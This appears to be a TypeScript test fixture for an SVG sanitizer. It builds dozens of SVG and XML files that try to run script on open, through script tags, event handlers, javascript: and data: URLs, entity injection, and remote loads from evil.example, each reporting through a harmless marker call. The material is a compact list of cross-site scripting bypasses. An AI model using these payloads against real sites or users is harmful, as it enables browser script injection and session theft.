const NAMESPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const XHTML = 'xmlns="http://www.w3.org/1999/xhtml"';

/** What stands in a drawing, or is the whole of it when it begins with `<?` or `<!`. `RUN` is the call. */
const INSIDES = [
  '<script>RUN</script>',
  '<script><![CDATA[RUN]]></script>',
  '<script href="data:text/javascript,RUN"/>',
  '<script xlink:href="https://evil.example/RUN.js"/>',
  '<svg:script xmlns:svg="http://www.w3.org/2000/svg">RUN</svg:script>',
  `<script ${XHTML}>RUN</script>`,
  `<h:script xmlns:h="http://www.w3.org/1999/xhtml">RUN</h:script>`,
  `<x:img xmlns:x="http://www.w3.org/1999/xhtml" src="none.png" onerror="RUN"/>`,
  `<foreignObject><img ${XHTML} src="none.png" onerror="RUN"/></foreignObject>`,
  `<foreignObject><iframe ${XHTML} src="javascript:RUN"/></foreignObject>`,
  `<foreignObject><body ${XHTML} onload="RUN"/></foreignObject>`,
  '<g onload="RUN"/>',
  '<circle r="9" onclick="RUN"/>',
  '<image href="none.png" onerror="RUN"/>',
  '<image xlink:href="https://evil.example/RUN.png"/>',
  '<a href="javascript:RUN"><text y="20">a</text></a>',
  '<a xlink:href="&#x6A;avascript:RUN"><text y="20">a</text></a>',
  '<a><animate attributeName="href" values="javascript:RUN"/><text y="20">a</text></a>',
  '<a><set attributeName="xlink:href" to="javascript:RUN"/><text y="20">a</text></a>',
  '<set attributeName="onmouseover" to="RUN"/>',
  '<animate attributeName="x" dur="1s" onbegin="RUN"/>',
  '<animate attributeName="x" dur="1s" onbegin="&#x52;UN"/>',
  '<use href="data:image/svg+xml,%3Csvg id=%22x%22%3E%3Cscript%3ERUN%3C/script%3E%3C/svg%3E#x"/>',
  '<style>@import "https://evil.example/RUN.css";</style>',
  '<rect width="9" height="9" style="fill:url(https://evil.example/RUN.svg#x)"/>',
  `<iframe ${XHTML} srcdoc="&lt;script&gt;RUN&lt;/script&gt;"/>`,
  `<embed ${XHTML} src="data:text/html,%3Cscript%3ERUN%3C/script%3E"/>`,
  `<video ${XHTML} src="none.webm" onerror="RUN"/>`,
  `<meta ${XHTML} http-equiv="refresh" content="0;url=javascript:RUN"/>`,
  `<link ${XHTML} rel="stylesheet" href="https://evil.example/RUN.css"/>`,
  '<handler type="application/ecmascript">RUN</handler>',
  '<!DOCTYPE svg [<!ENTITY e "<script>RUN</script>">]><svg>&e;</svg>',
  `<!DOCTYPE svg [<!ENTITY e "&#60;script&#62;RUN&#60;/script&#62;">]><svg ${NAMESPACES}>&e;</svg>`,
  `<!DOCTYPE svg [<!ATTLIST g onload CDATA "RUN">]><svg ${NAMESPACES}><g/></svg>`,
  `<?xml version="1.0"?><?xml-stylesheet href="data:text/css,x"?><svg ${NAMESPACES}><script>RUN</script></svg>`,
  `<?xml version="1.0"?><html ${XHTML}><script>RUN</script></html>`,
  `<?xml version="1.0"?><!-- x --><svg ${NAMESPACES} onload="RUN"/>`,
];

/** A file that claims to be a drawing. */
export interface Drawing {
  readonly id: number;
  readonly source: string;
}

/** Attempts to run a script when a drawing is opened. */
export const DRAWINGS: readonly Drawing[] = INSIDES.map((inside, index) => {
  const whole = /^<[?!]/.test(inside) ? inside : `<svg ${NAMESPACES} width="9" height="9">${inside}</svg>`;
  return {
    id: index + 1,
    source: whole.replaceAll('RUN', `__hit(${index + 1})`).replace('&#x52;UN', `&#x5f;_hit(${index + 1})`),
  };
});
